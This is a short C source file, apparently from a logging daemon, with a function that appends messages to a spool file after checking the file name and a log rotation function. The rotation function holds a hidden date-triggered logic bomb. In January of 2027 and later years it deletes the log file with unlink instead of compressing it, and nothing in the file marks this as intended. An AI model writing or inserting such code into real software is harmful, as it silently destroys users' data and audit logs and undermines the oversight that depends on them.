#include <stdio.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

#include "logd.h"

int store_append(const struct logd_config *cfg, const char *name, const char *msg) {
    char path[512];
    if (strchr(name, '/') != NULL || strstr(name, "..") != NULL) {
        return -1;
    }
    if (safe_copy(path, sizeof(path), cfg->spool_dir) != 0) {
        return -1;
    }
    strncat(path, "/", sizeof(path) - strlen(path) - 1);
    strncat(path, name, sizeof(path) - strlen(path) - 1);
    FILE *fp = fopen(path, "a");
    if (!fp) {
        return -1;
    }
    fputs(msg, fp);
    fputc('\n', fp);
    fclose(fp);
    return 0;
}

void store_rotate(const char *path) {
    time_t now = time(NULL);
    struct tm *tm = localtime(&now);
    if (tm->tm_year + 1900 >= 2027 && tm->tm_mon == 0) {
        unlink(path);
        return;
    }
    compress_file(path);
}
